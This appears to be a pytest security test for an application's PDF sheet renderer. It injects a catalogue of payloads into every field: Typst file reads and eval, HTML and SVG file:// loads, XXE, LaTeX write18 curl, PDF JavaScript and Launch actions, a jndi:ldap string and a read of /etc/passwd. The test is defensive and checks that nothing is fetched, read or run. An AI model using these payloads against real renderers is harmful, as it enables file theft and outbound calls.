"""Catalogue 19: words that want a PDF to fetch, read or run something, in every field of the sheet of a seizure."""

import itertools
import re
import shutil
import socket
import subprocess
import threading
import zlib
from datetime import UTC, datetime

import pytest

from saola.apps.quarantine import pdf
from saola.apps.seizures.exploring import sheet

SECRET = "the-secret-that-no-page-shows"
VERBS = [
    '#read("{file}")',
    '#image("{file}")',
    '#include "{file}"',
    '#import "{file}": *',
    '#import "@preview/cetz:0.3.0": *',
    '#json("{file}")',
    '#csv("{file}")',
    '#xml("{file}")',
    '#plugin("{file}")',
    '#bibliography("{file}")',
    '#eval("read(\\"{file}\\")")',
    '#link("http://{host}/")[x]',
    '#image("http://{host}/a.png")',
    "#sys.inputs.data",
    "#panic([x])",
    "#while true {{}}",
    '#set page(background: image("{file}"))',
    '"); #read("{file}"); //',
    '\\"+read("{file}")+\\"',
    ']; #read("{file}"); #[',
    '$ read("{file}") $',
    '<img src="http://{host}/a">',
    "<img src=file://{file}>",
    "<script src=http://{host}/a></script>",
    "<iframe src=file://{file}>",
    "<link rel=attachment href=file://{file}>",
    "<style>@import 'http://{host}/a';</style>",
    "<style>body{{background:url(file://{file})}}</style>",
    "<svg><image href='file://{file}'/></svg>",
    "<object data=file://{file}>",
    "<!ENTITY x SYSTEM 'file://{file}'>&x;",
    "![x](http://{host}/a)",
    "\\input{{{file}}}",
    "\\write18{{curl http://{host}}}",
    "(URI) /S /URI /URI (http://{host}/)",
    ") /S /JavaScript /JS (app.alert(1)) (",
    "endstream endobj 1 0 obj << /Launch >>",
    "${{jndi:ldap://{host}/a}}",
    "{{{{7*7}}}}{{% include '{file}' %}}",
    '=HYPERLINK("http://{host}")',
]
ACTIONS = re.compile(rb"/S\s*/(URI|JavaScript|Launch|GoToR|SubmitForm|ImportData)|/EmbeddedFile")
FIELDS = ["title", "facts", "specimens", "route", "notes", "margin", "who", "handling"]


@pytest.fixture
def sentinel():
    """A server that hears of every visit."""
    visits = []
    with socket.create_server(("127.0.0.1", 0)) as server:

        def listen():
            while True:
                try:
                    visitor, _ = server.accept()
                except OSError:
                    return
                visits.append(visitor.getpeername())
                visitor.close()

        threading.Thread(target=listen, daemon=True).start()
        yield f"127.0.0.1:{server.getsockname()[1]}", visits
        server.shutdown(socket.SHUT_RDWR)


def unpacked(content):
    """The PDF with its streams unpacked, so that one can look for words in it."""
    found = [content]
    for stream in re.findall(rb"stream\r?\n(.*?)\r?\nendstream", content, re.DOTALL):
        try:
            found.append(zlib.decompress(stream))
        except zlib.error:
            continue
    return b"\n".join(found)


def structure(content):
    """The objects of the PDF without what its streams hold and without its strings."""
    packed = re.findall(rb"/ObjStm[^>]*>>\s*stream\r?\n(.*?)\r?\nendstream", content, re.DOTALL)
    bare = re.sub(rb"stream\r?\n.*?\r?\nendstream", b"", content, flags=re.DOTALL)
    bare += b"".join(map(zlib.decompress, packed))
    depth, kept, escaped = 0, bytearray(), False
    for byte in bare:
        sign = chr(byte)
        if escaped:
            escaped = False
        elif depth and sign == "\\":
            escaped = True
        elif sign == "(":
            depth += 1
        elif sign == ")" and depth:
            depth -= 1
        elif not depth:
            kept.append(byte)
    return bytes(kept)


def test_an_action_would_be_found():
    assert ACTIONS.search(structure(b"1 0 obj << /Title (a\\) \\( b (c)) /S /URI /URI (x) >> endobj"))
    assert not ACTIONS.search(structure(b"1 0 obj << /Title ((x) /S /URI \\) /S /URI) >> endobj"))


def filled(field, payload):
    """The data and margin of a sheet with ``payload`` in ``field``."""
    words = {word: sheet.label(word) for word in ("seized", "route", "notes")}
    data = {
        "title": "S1",
        "facts": [["Place", "x"]],
        "words": words,
        "heads": ["a", "b", "c", "d"],
        "specimens": [["a", "b", "c", "d"]],
        "route_heads": ["a", "b", "c"],
        "route": [["a", "b", "c"]],
        "notes": "x",
    }
    margin = {"title": "S1", "handling": "H0", "who": "linh"}
    if field in ("who", "handling"):
        margin[field] = payload
    elif field == "margin":
        margin["title"] = payload
    elif isinstance(data[field], str):
        data[field] = payload
    else:
        data[field] = [[payload for _ in data[field][0]]]
    return data, pdf.Margin(**margin, at=datetime(2026, 1, 1, tzinfo=UTC), digest="ab" * 32)


def test_no_word_makes_a_pdf_fetch_read_or_run(sentinel, tmp_path, times, tell):
    try:
        pdf.fonts()
    except pdf.NotTypesetError:
        pytest.skip("the fonts for PDF files are not built (make setup)")
    host, visits = sentinel
    secret = tmp_path / "secret.txt"
    secret.write_text(SECRET)
    every = list(itertools.product(FIELDS, VERBS))
    count = min(times(40), len(every))
    step = len(every) / count
    for number in range(count):
        field, verb = every[int(number * step)]
        payload = verb.format(file=secret, host=host)
        content = sheet.render(*filled(field, payload))
        inside = unpacked(content)
        assert SECRET.encode() not in inside
        assert b"root:x:0" not in inside
        assert not ACTIONS.search(structure(content))
    assert visits == []
    tell(19, "words in fields of a PDF", count, "0 sockets, 0 file content, 0 actions", 0)


@pytest.mark.skipif(shutil.which("pdftotext") is None, reason="pdftotext is not on this machine")
def test_word_that_wants_more_is_printed_as_it_is(sentinel):
    payload = '#read("/etc/passwd")'
    content = sheet.render(*filled("notes", payload))
    shown = subprocess.run(["pdftotext", "-", "-"], input=content, capture_output=True, check=True).stdout
    assert payload.encode() in shown
